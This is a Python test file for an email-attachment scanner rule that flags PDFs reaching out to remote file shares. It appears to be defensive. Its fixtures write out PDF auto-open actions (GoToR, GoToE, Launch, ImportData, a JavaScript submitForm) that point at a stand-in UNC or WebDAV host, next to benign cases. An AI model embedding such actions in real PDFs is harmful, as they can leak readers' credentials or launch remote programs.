"""Documents that pdf_asks_file_share must find, with their weights, and (more) that it must leave alone."""

from __future__ import annotations

import pytest

from tests import files, files_pdf
from tests.files_pdf import document, link, saved, script
from tests.workers.attachments.scan import File, found

SHARE = r"\\\\203.0.113.5\\a"
BAD: dict[str, tuple[File, float]] = {
    "a document on it when a page is shown": (
        ("a.pdf", document(page=f"/AA << /O << /S /GoToE /F ({SHARE}) /D [0 /Fit] >> >>")),
        9.0,
    ),
    "a document on it when it is opened": (("a.pdf", document(f"/OpenAction << /S /GoToR /F ({SHARE}) >>")), 9.0),
    "written with slashes": (("a.pdf", document("/OpenAction << /S /GoToR /F (//203.0.113.5/a/b.pdf) >>")), 9.0),
    "over WebDAV": (("a.pdf", document("/OpenAction << /S /GoToR /F (//example.com@80/a/b.pdf) >>")), 9.0),
    "as an address": (("a.pdf", document("/OpenAction << /S /URI /URI (file://203.0.113.5/a/b) >>")), 9.0),
    "a program on it": (("a.pdf", document(f"/OpenAction << /S /Launch /F ({SHARE}) >>")), 9.0),
    "the data of a form": (("a.pdf", document(f"/OpenAction << /S /ImportData /F ({SHARE}) >>")), 9.0),
    "the content of a stream": (
        ("a.pdf", document(objects=[files_pdf.stream(b"", "/F << /F (//203.0.113.5/a/b) >>")])),
        9.0,
    ),
    "in a script": (
        ("a.pdf", document("/OpenAction " + script(r"this.submitForm('\\\\203.0.113.5\\a\\b');"))),
        9.0,
    ),
    "a link within a company": (
        ("a.pdf", document(page=f"/Annots [<< /Subtype /Link /A << /S /GoToR /F ({SHARE}) >> >>]")),
        0.5,
    ),
}
GOOD: dict[str, File] = {
    "no action": ("a.pdf", document()),
    "a link": ("a.pdf", document(page=link())),
    "a link without scheme": ("a.pdf", document(page=link("//www.example.com/a"))),
    "a file on this computer": ("a.pdf", document(page=link("file:///C:/a/b.pdf"))),
    "a file on localhost": ("a.pdf", document(page=link("file://localhost/a/b.pdf"))),
    "a folder": (
        "a.pdf",
        document(page="/Annots [<< /Subtype /Link /A << /S /GoToR /F (/C/a/part2.pdf) >> >>]"),
    ),
    "a folder of Windows": (
        "a.pdf",
        document(page=r"/Annots [<< /Subtype /Link /A << /S /GoToR /F (..\\\\a\\\\part2.pdf) >> >>]"),
    ),
    "an expression in a script": ("a.pdf", document("/OpenAction " + script(r"var a = /\\d+\\w/; var b = '\\d\\s';"))),
    "a comment in a script": ("a.pdf", document("/OpenAction " + script("//nothing/ here\nthis.print();"))),
    "a text about it": ("a.pdf", document(content=b"BT /F1 9 Tf 9 9 Td (\\\\\\\\203.0.113.5\\\\a) Tj ET")),
    "a name of a file in a stream": ("a.pdf", document(objects=[files_pdf.stream(b"", "/F (a.icc)")])),
    "an embedded file": ("a.pdf", files.pdf_with_file("a.txt", b"a")),
    "a source file": ("a.txt", b"/S /GoToR /F (//203.0.113.5/a/b.pdf)"),
    "a document under a password": ("a.pdf", saved(document(), user="none")),
}


@pytest.mark.parametrize(("file", "weight"), BAD.values(), ids=BAD)
def test_is_found(file: File, weight: float) -> None:
    (finding,) = found("pdf_asks_file_share", file)
    assert finding.weight == weight


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("pdf_asks_file_share", file) == []
